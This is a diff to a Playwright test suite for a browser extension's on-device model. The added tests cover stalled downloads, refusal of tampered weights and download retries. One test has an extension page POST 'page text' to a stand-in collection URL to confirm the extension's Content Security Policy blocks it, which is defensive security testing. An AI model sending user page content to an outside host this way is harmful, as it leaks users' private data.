@@ -3,9 +3,11 @@ import { after, before, describe, it } from 'node:test';
 import type { Page } from 'playwright-core';
 import { DEFAULT_MODEL_ID } from '../../lib/model/catalog';
 import type { ModelStatus } from '../../lib/model/status';
-import { launch, readKv, screenshot, startModelServer, startPageServer, tabIdOf, TEST_MODEL_DIR, writeKv, type Browser } from './harness';
+import { checksFor, launch, readKv, screenshot, startModelServer, startPageServer, tabIdOf, TEST_MODEL_DIR, writeKv, type Browser } from './harness';
 
 const MULTILINGUAL = 'Xenova/multilingual-e5-small';
+/** The revision the stand-in hub's model is pinned to, as the catalogue pins the real one. */
+const REVISION = 'fedcba9876543210fedcba9876543210fedcba98';
 let browser: Browser;
 let pages: Awaited<ReturnType<typeof startPageServer>>;
 let hub: Awaited<ReturnType<typeof startModelServer>>;
@@ -25,7 +27,7 @@ before(async () => {
 after(async () => {
   await browser?.close();
   pages?.server.close();
-  hub?.server.close();
+  hub?.close();
 });
 
 async function popupFor(name: string): Promise<{ popup: Page; tabId: number }> {
@@ -96,14 +98,76 @@ describe('on-device model in Chromium', () => {
     await options.close();
   });
 
-  it('downloads a model after consent, with progress, and retries after an interrupted download', async () => {
+  it('blocks, by its CSP, any connection from an extension page to a host other than the model hub', async () => {
+    const options = await browser.extPage('options.html');
+    const outcome = await options.evaluate(async () => {
+      try {
+        await fetch('https://example.com/collect', { method: 'POST', body: 'page text' });
+        return 'sent';
+      } catch {
+        return 'blocked';
+      }
+    });
+    assert.equal(outcome, 'blocked');
+    // The browser's CSP stopped it (not only this test's network filter, which would log it in browser.blocked).
+    for (let i = 0; i < 20 && (await csp(options)).length === 0; i++) await options.waitForTimeout(50);
+    assert.deepEqual(await csp(options), ['connect-src https://example.com/collect']);
+    assert.equal(
+      browser.blocked.some((u) => u.startsWith('https://example.com')),
+      false,
+    );
+    await options.close();
+  });
+
+  it('a download that stalls ends in a plain error within the stall time, and its host is closed', async () => {
     await writeKv(browser.worker, 'testModelHost', hub.origin);
-    hub.state.interrupt = true;
+    await writeKv(browser.worker, 'testModelFiles', { revision: REVISION, files: checksFor(TEST_MODEL_DIR) });
+    await writeKv(browser.worker, 'modelStallMs', 3_000);
+    hub.state.stall = true;
     const options = await browser.extPage('options.html');
     await options.getByRole('radio', { name: /Multilingual/ }).check();
     const download = options.getByRole('button', { name: /Download 118 MB and use it/ });
     await download.waitFor();
+    const started = Date.now();
     await download.click();
+    const alert = options.getByRole('alert').filter({ hasText: /nothing happened for 3 seconds/ });
+    await alert.waitFor({ timeout: 20_000 });
+    const took = Date.now() - started;
+    assert.ok(took < 15_000, `error shown after ${took} ms`);
+    for (let i = 0; i < 25 && (await offscreenOpen()); i++) await options.waitForTimeout(200);
+    assert.equal(await offscreenOpen(), false, 'the stuck host was closed');
+    assert.ok(
+      hub.state.requests.every((r) => r.startsWith(`/${MULTILINGUAL}/resolve/${REVISION}/`)),
+      hub.state.requests.join(', '),
+    );
+    await options.close();
+  });
+
+  it('refuses weights that are not the expected ones, and caches nothing of them', async () => {
+    hub.state.stall = false;
+    hub.state.tamper = true;
+    hub.state.requests = [];
+    const options = await browser.extPage('options.html');
+    await options.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
+    const alert = options.getByRole('alert').filter({ hasText: /was not the expected one \(onnx\/model_quantized\.onnx\), so nothing was kept/ });
+    await alert.waitFor({ timeout: 30_000 });
+    // Retry really retried: the weights were asked for again, from a fresh host.
+    assert.ok(hub.state.requests.some((r) => r.endsWith('/onnx/model_quantized.onnx')));
+    const cached = await options.evaluate(async () => (await (await caches.open('transformers-cache')).keys()).map((r) => r.url));
+    assert.deepEqual(
+      cached.filter((u) => u.includes('multilingual-e5-small')),
+      [],
+    );
+    await screenshot(options, 'options-model-integrity-error');
+    await options.close();
+  });
+
+  it('downloads a model after consent, with progress, and retries after an interrupted download', async () => {
+    hub.state.tamper = false;
+    hub.state.interrupt = true;
+    await writeKv(browser.worker, 'modelStallMs', 60_000);
+    const options = await browser.extPage('options.html');
+    await options.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
     await options.getByRole('progressbar', { name: /Downloading the model/ }).waitFor({ timeout: 10_000 });
     const alert = options.getByRole('alert').filter({ hasText: /download failed/ });
     await alert.waitFor({ timeout: 30_000 });
